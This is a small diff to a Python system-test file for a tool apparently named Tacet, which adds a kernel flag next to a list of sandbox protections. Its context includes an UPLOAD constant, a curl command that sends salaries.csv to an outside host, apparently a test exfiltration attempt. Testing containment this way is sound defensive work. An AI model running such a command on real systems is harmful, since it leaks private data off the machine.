@@ -12,6 +12,7 @@ from tests.system.scene import Scene
 from tests.system.tacet_cli import Tacet
 from tests.system.widgets import Screen
 
+NEWEST_KERNEL_ONLY = True
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
 PROTECTIONS = {"labels", "interposition", "doppelgangers", "channels", "disclosure", "questions", "shadow-files", "lasting-rules",
                "private-memory", "private-swap", "kernel-memory", "host-names", "boot"}
